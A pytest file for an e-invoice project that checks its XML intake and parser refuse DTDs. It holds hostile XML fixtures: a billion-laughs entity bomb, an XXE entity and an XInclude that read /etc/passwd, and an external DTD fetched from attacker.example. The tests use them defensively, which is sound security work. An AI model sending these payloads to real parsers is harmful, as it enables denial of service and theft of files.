"""Untrusted XML: DTDs, entity expansion and external entities are refused at intake and at parsing."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from turnout.domain.artifacts import Document, DocumentKind, Source
from turnout.domain.errors import InputRejected
from turnout.modules.einvoice.xml import XmlEInvoice
from turnout.modules.intake.standard import StandardIntake
from turnout.modules.xmlsafe import declares_doctype, parse_xml

UBL_NS = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
CBC_NS = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + f']>\n<Invoice xmlns="{UBL_NS}" xmlns:cbc="{CBC_NS}"><cbc:ID>&lol9;</cbc:ID></Invoice>'.encode()
)

EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + f'<Invoice xmlns="{UBL_NS}" xmlns:cbc="{CBC_NS}"><cbc:ID>&xxe;</cbc:ID></Invoice>'.encode()
)

EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">\n'
    + f'<Invoice xmlns="{UBL_NS}"/>'.encode()
)

HOSTILE = {
    "billion_laughs": BILLION_LAUGHS,
    "external_entity": EXTERNAL_ENTITY,
    "external_dtd": EXTERNAL_DTD,
    "utf16_doctype": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16"),
    "doctype_after_comment": b"<?xml version='1.0'?><!-- hi --><!DOCTYPE Invoice []><Invoice/>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_intake_refuses_xml_with_a_doctype(name: str) -> None:
    started = time.perf_counter()
    with pytest.raises(InputRejected, match=r"XML with a DTD is not accepted \(possible entity"):
        StandardIntake().identify(Source("invoice.xml", HOSTILE[name]))
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_einvoice_refuses_xml_with_a_doctype_even_if_intake_was_bypassed(name: str) -> None:
    data = HOSTILE[name]
    document = Document(
        "x.xml", DocumentKind.UBL, "application/xml", "0" * 64, len(data), data, xml=data
    )
    with pytest.raises(InputRejected, match="XML with a DTD is not accepted"):
        XmlEInvoice().parse(document)


def test_the_passwd_file_never_reaches_the_output() -> None:
    with pytest.raises(InputRejected) as info:
        parse_xml(EXTERNAL_ENTITY, max_bytes=10_000)
    assert "root:" not in str(info.value)


def test_doctype_word_inside_the_document_body_is_not_a_doctype() -> None:
    data = (
        f'<Invoice xmlns="{UBL_NS}" xmlns:cbc="{CBC_NS}">'
        "<cbc:Note><![CDATA[see <!DOCTYPE html> in the spec]]></cbc:Note></Invoice>"
    ).encode()
    assert not declares_doctype(data)
    assert parse_xml(data, max_bytes=10_000) is not None


def test_parser_never_fetches_from_the_network_or_disk_even_without_a_doctype_check() -> None:
    # An XInclude or schemaLocation is just an attribute to the hardened parser.
    data = (
        b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/></a>'
    )
    root = parse_xml(data, max_bytes=10_000)
    assert "root:" not in (root[0].text or "")


def test_xml_over_the_size_bound_is_refused_before_parsing() -> None:
    example = Path(__file__).parents[2] / "src" / "turnout" / "examples" / "ubl-invoice.xml"
    data = example.read_bytes()
    with pytest.raises(InputRejected, match=r"over the limit of 1,000.*`max_bytes`"):
        parse_xml(data, max_bytes=1000)


def test_the_stages_of_a_run_share_one_parse_of_the_same_bytes_and_limits_still_hold() -> None:
    example = Path(__file__).parents[2] / "src" / "turnout" / "examples" / "ubl-invoice.xml"
    data = example.read_bytes()
    root = parse_xml(data, max_bytes=100_000)
    assert parse_xml(data, max_bytes=100_000) is root
    # equal bytes in another object (another file, another run) are parsed anew
    assert parse_xml(bytes(bytearray(data)), max_bytes=100_000) is not root
    # a module with a lower limit still refuses the document another stage already parsed
    again = bytes(bytearray(data))
    parse_xml(again, max_bytes=100_000)
    with pytest.raises(InputRejected, match="over the limit"):
        parse_xml(again, max_bytes=1000)


def test_a_refused_document_is_refused_every_time() -> None:
    for _ in range(2):
        with pytest.raises(InputRejected, match="DTD"):
            parse_xml(BILLION_LAUGHS, max_bytes=100_000)
